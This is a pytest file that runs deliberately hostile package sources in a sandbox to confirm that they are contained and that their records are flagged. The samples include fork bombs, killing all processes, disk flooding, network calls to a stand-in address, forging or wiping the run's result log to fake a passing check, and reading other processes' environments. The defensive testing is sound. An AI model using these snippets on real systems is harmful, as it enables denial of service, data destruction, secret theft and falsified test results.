"""Releases that do harm: each as a real wheel in the warm lane. It is told, it is no evidence, and nobody else is hurt."""

from __future__ import annotations

import os
import sys
import time
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import pytest
from made_wheels import made_wheel

from market_data_meta.combination import Cell, newest_of
from market_data_meta.contract import Contract
from market_data_meta.ledger import Ledger
from market_data_meta.matrix import warm
from market_data_meta.matrix.cache import Store
from market_data_meta.matrix.warm import Job, Template, run_all
from market_data_meta.matrix.wheels import extract
from market_data_meta.record import Record
from market_data_meta.run import header_of, plan_of
from market_data_meta.verdict import weaknesses

MARK = f"mdm-hostile-{os.getpid()}"
ESCAPE = f"""
import os, sys
if not os.fork():
    os.setsid()
    if not os.fork():
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", "{MARK}"])
    os._exit(0)
os.wait()
"""
FORGED = """
import json, os
for fd in range(3, 64):
    try:
        if not os.readlink(f"/proc/self/fd/{fd}").endswith(".jsonl"): continue
    except OSError:
        continue
"""
# What is done, and what is said of it.
DEEDS: Mapping[str, tuple[str, str]] = {
    "hangs at import": ("import time\nwhile True: time.sleep(9)", "did not end within 8 s"),
    "exits": ("import os; os._exit(0)", "ended before it was through"),
    "crashes": ("import os, signal; os.kill(os.getpid(), signal.SIGSEGV)", "SIGSEGV"),
    "raises": ("raise BaseException('<b>no</b>')", "status 1"),
    "prints without end": (
        "import os\nwhile True:\n    try: os.write(1, b'x' * (1 << 20))\n    except OSError: pass",
        "printed more than 8 MiB",
    ),
    "prints and goes on": ("import os\nfor _ in range(20): os.write(1, b'x' * (1 << 20))", "printed more than 8 MiB"),
    "fills its home": (
        "import time\nfor n in range(20):\n    with open(f'f{n}', 'wb') as f: f.write(bytes(1 << 20))",
        "wrote more than 16 MiB",
    ),
    "fills what has no name": (
        "import os, time\nf = open('f', 'wb')\nos.unlink('f')\nf.write(os.urandom(30 << 20))\nf.flush()\ntime.sleep(60)",
        "wrote more than 16 MiB",
    ),
    "makes many files": (
        "import os\nfor n in range(20100): os.mknod(f'd{n}')",
        "more than 20000 files",
    ),
    "forks without end": (
        "import os, time\nfor _ in range(99):\n    if not os.fork(): time.sleep(99); os._exit(0)\ntime.sleep(99)",
        "more than 30 processes",
    ),
    "adds to the record": (f"{FORGED}\n    os.write(fd, b'{{\"kind\": \"footer\"}}\\n')", "line that the run did not write"),
    "passes a check in the record": (
        f"{FORGED}\n    line = dict(kind='check', clause='controls.must-fail', outcome='failed', message='', expected=5,"
        " got=4, duration=0)\n    os.write(fd, (json.dumps(line) + '\\n').encode())\n    os._exit(0)",
        "line that the run did not write",
    ),
    "empties the record": (f"{FORGED}\n    os.ftruncate(fd, 0)", "line that the run did not write"),
    "writes beside the record": (
        "import os\nfor fd in range(64):\n    try: p = os.readlink(f'/proc/self/fd/{fd}')\n    except OSError: continue\n"
        "    if p.endswith('.jsonl'):\n        try: open(p + 'x', 'w')\n        except OSError: pass",
        "it tried to write",
    ),
    "replaces the judgement": (
        "import mdm_clause\nmdm_clause.Clause.equal = lambda *_: None",
        "control does not know its secret",
    ),
    "replaces the judgement but for the control": (
        "import mdm_clause\ndef equal(self, what, got, expected):\n"
        "    if self.id.endswith('must-fail'): raise mdm_clause.ViolationError(what, 5, got)\n"
        "mdm_clause.Clause.equal = equal",
        "control does not know its secret",
    ),
    "connects": (
        "import socket\ntry: socket.create_connection(('203.0.113.5', 80), 1)\nexcept Exception: pass",
        "it tried to connect to 203.0.113.5:80",
    ),
    "sends": (
        "import socket\ntry: socket.socket(type=socket.SOCK_DGRAM).sendto(b'x', ('203.0.113.5', 53))\nexcept Exception: pass",
        "it tried to send to 203.0.113.5:53",
    ),
    "asks": (
        "import socket\ntry: socket.getaddrinfo('tokens.example', 443)\nexcept Exception: pass",
        "it tried to look up tokens.example",
    ),
    "listens": (
        "import socket\ntry: socket.create_server(('0.0.0.0', 0))\nexcept Exception: pass",
        "it tried to listen on 0.0.0.0:0",
    ),
    "signals its parent": (
        "import os, signal\ntry: os.kill(os.getppid(), signal.SIGTERM)\nexcept OSError: pass",
        "it tried to send signal 15 to process",
    ),
    # Only where the kernel is known to keep signals within the run, as it would otherwise end this machine's processes.
    "signals all": (
        "import ctypes, os\nlibrary = ctypes.CDLL(None, use_errno=True)\n"
        "if library.kill(os.getppid(), 0) == -1 and ctypes.get_errno() == 1:\n"
        "    if library.kill(-1, 9) == 0: os._exit(7)\n",
        "",
    ),
    "removes its neighbours' files": (
        "import os, pathlib\nfor n in range(40):\n"
        "    try: os.unlink(pathlib.Path(__file__).parents[2] / str(n) / 'market_data_core' / '__init__.py')\n"
        "    except OSError: pass",
        "it tried to remove",
    ),
    "writes into the environment": (
        "import pytest, os\ntry: open(os.path.join(os.path.dirname(pytest.__file__), 'mdm_hostile.py'), 'w')\n"
        "except OSError: pass",
        "it tried to write",
    ),
}
# What is no evidence against anybody: Python stops it or it is over with the run.
HARMLESS: Mapping[str, str] = {
    "behaves": "",
    "recurses": "def f(): return f() + f()\nf()",
    "eats": "hoard = [bytearray(1 << 26) for _ in range(1 << 12)]",
    "prints a passing run": "print('251 passed in 9.00s\\n{\"kind\": \"footer\"}', flush=True)",
    "leaves a thread": "import threading, time\nthreading.Thread(target=time.sleep, args=(600,)).start()",
    "leaves a child": ESCAPE,
    "replaces json and os": "import json, os\njson.dumps = lambda *a, **k: '{}'\nos.write = lambda *a: 0\nos._exit = print",
}
NATIVE = """
import ctypes, os, pathlib
library = ctypes.CDLL(None, use_errno=True)
said = {}
"""


@dataclass(frozen=True)
class Ran:
    """What became of a deed: the record that is kept, and its log."""

    record: Record
    log: str


@pytest.fixture(scope="module")
def run(
    contract: Contract, ledger: Ledger, tmp_path_factory: pytest.TempPathFactory
) -> Callable[[Mapping[str, str]], dict[str, Ran]]:
    """Run packages made of these sources in the warm lane, several at a time in one template."""
    names = tuple(contract.packages)
    plan: dict[str, Any] = plan_of(contract, names) | {"preload": ["market_data_core"]}
    plan["clauses"] = {name: table for name, table in plan["clauses"].items() if name in contract.controls}
    header = header_of(contract, ledger, Cell(newest_of(names, ledger)), (), sorted(contract.controls), "warm")
    contents = {name: row["content"] for name, row in header["expected"].items()}

    def ran(sources: Mapping[str, str]) -> dict[str, Ran]:
        folder = tmp_path_factory.mktemp("hostile")
        store = Store(folder / "cache", "s" * 64, "f" * 16, sys.executable)
        jobs = []
        for number, (name, source) in enumerate(sources.items()):
            wheel = made_wheel(folder, "market-data-core", f"9.{number}", {"market_data_core/__init__.py": source})
            extract(wheel, folder / "sites" / str(number))
            request = {"header": header, "clauses": sorted(contract.controls), "not_applicable": {}}
            request["path"] = [str(folder / "sites" / str(number))]
            jobs.append(Job(name, request, folder / f"{number}.jsonl", folder / f"{number}.log"))

        def start() -> Template:
            return Template(contract.root, Path(sys.executable), plan, folder / "template.log").__enter__()

        bounds = replace(warm.BOUNDS, processes=30, printed=8 << 20, written=16 << 20)
        with pytest.MonkeyPatch.context() as patch:
            patch.setattr(warm, "BOUNDS", bounds)
            found = {}
            for job, cause in run_all(start, jobs, at_once=4, seconds=8.0):
                found[job.name] = Ran(store.keep(contents, job, cause), job.log.read_text(errors="replace")[:2000])
        assert not list(folder.glob("*.jsonlx"))
        assert all((folder / "sites" / str(n) / "market_data_core" / "__init__.py").exists() for n in range(len(jobs)))
        return found

    return ran


@pytest.fixture(scope="module")
def after(run: Callable[[Mapping[str, str]], dict[str, Ran]]) -> dict[str, Ran]:
    """All deeds side by side."""
    return run({**{name: source for name, (source, _) in DEEDS.items()}, **HARMLESS})


@pytest.mark.parametrize("name", DEEDS)
def test_a_harmful_release_is_no_evidence_and_a_sentence_says_why(after: Mapping[str, Ran], name: str) -> None:
    said = DEEDS[name][1]
    reasons = [why for why in weaknesses(after[name].record) if "is not installed" not in why]
    if said:
        assert any(said in why for why in reasons), (reasons, after[name].log)


@pytest.mark.parametrize("name", HARMLESS)
def test_beside_harmful_releases_the_others_have_whole_records(after: Mapping[str, Ran], name: str) -> None:
    record = after[name].record
    assert record.footer is not None, (record.death, after[name].log)
    assert {c: check.outcome for c, check in record.checks.items()} == {
        "controls.must-pass": "passed",
        "controls.must-fail": "failed",
    }


def test_nothing_outlives_the_runs(after: Mapping[str, Ran]) -> None:
    assert len(after) == len(DEEDS) + len(HARMLESS)
    until = time.monotonic() + 5
    while (left := list(marked())) and time.monotonic() < until:
        time.sleep(0.05)
    assert left == []


def marked() -> Iterator[str]:
    """The processes that a deed has started to stay."""
    for file in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            if MARK.encode() in file.read_bytes():
                yield file.parent.name
        except OSError:
            continue


def test_code_that_is_not_pythons_is_held_by_the_kernel(
    run: Callable[[Mapping[str, str]], dict[str, Ran]], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Files outside the home, processes outside the run, and the tool's own variables are out of reach for any code."""
    target = tmp_path / "target"
    target.write_text("whole")
    monkeypatch.setenv("GITHUB_TOKEN", "a-token-of-the-caller")
    source = f"""
import ctypes, os
library = ctypes.CDLL(None, use_errno=True)
def told(what, result): print(what, result, ctypes.get_errno() if result < 0 else 0, flush=True)
told("open", library.open(b"{target}", os.O_WRONLY | os.O_TRUNC))
told("unlink", library.unlink(b"{target}"))
told("read", library.open(b"{target}", os.O_RDONLY))
told("signal", library.kill({os.getpid()}, 0))
told("parent", library.kill(os.getppid(), 0))
for who, pid in ("tool", {os.getpid()}), ("template", os.getppid()):
    told(who, library.open(b"/proc/%d/environ" % pid, os.O_RDONLY))
told("home", library.open(b"mine", os.O_WRONLY | os.O_CREAT, 0o600))
print("token", [n for n in os.environ if "TOKEN" in n])
"""
    done = run({"looks around": source})["looks around"]
    said = dict(line.split(" ", 1) for line in done.log.splitlines() if line.split(" ")[0] in source)
    assert target.read_text() == "whole"
    held = {"open": "-1 13", "unlink": "-1 13", "read": "-1 13", "signal": "-1 1", "parent": "-1 1", "tool": "-1 13", "template": "-1 13"}
    assert {name: said[name] for name in held} == held
    assert said["home"].split()[1] == "0"
    assert said["token"] == "[]"
    assert done.record.header["cage"]["signals"] is True
